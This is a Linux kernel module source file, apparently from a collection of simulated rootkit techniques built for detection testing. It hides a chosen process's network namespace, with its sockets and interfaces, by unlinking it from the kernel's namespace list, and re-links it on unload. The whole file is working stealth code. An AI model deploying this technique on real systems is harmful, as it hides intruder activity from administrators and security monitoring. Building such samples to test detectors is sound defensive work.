// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: a network namespace is taken off the kernel's list, and with it the sockets and interfaces inside. Who: no kit
 * that is known; what hides a process would hide its network like this.
 * Changes: links of the network namespace of the process `pid`. Undone when it is unloaded.
 */
#include "attack.h"

#include <linux/rculist.h>
#include <linux/rtnetlink.h>
#include <net/net_namespace.h>

static int pid;
module_param(pid, int, 0);

static struct net *space;

static int __init start(void)
{
	space = get_net_ns_by_pid(pid);
	if (IS_ERR(space))
		return PTR_ERR(space);
	if (space == &init_net)
		return -ESRCH;
	rtnl_lock();
	list_del_rcu(&space->list);
	rtnl_unlock();
	return 0;
}

static void __exit stop(void)
{
	rtnl_lock();
	list_add_tail_rcu(&space->list, &net_namespace_list);
	rtnl_unlock();
	put_net(space);
}

ATTACK(start, stop);
